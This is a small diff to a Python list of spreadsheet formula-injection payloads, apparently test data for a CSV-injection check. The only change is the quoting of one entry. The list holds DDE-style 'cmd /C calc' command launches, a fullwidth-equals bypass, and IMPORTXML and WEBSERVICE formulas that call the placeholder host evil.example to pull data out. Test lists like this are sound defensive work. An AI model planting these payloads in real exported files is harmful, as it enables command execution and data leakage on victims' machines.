@@ -70,7 +70,7 @@ PAYLOADS = [
     "+1+cmd|' /C calc'!A0",
     "-2+3+cmd|' /C calc'!A0",
     "@SUM(1+1)*cmd|' /C calc'!A0",
-    "=IMPORTXML(\"https://evil.example\",\"//a\")",
+    '=IMPORTXML("https://evil.example","//a")',
     '=WEBSERVICE("https://evil.example")',
     "\uff1d1+1",
     "DDE ('cmd';'/C calc';'x')",
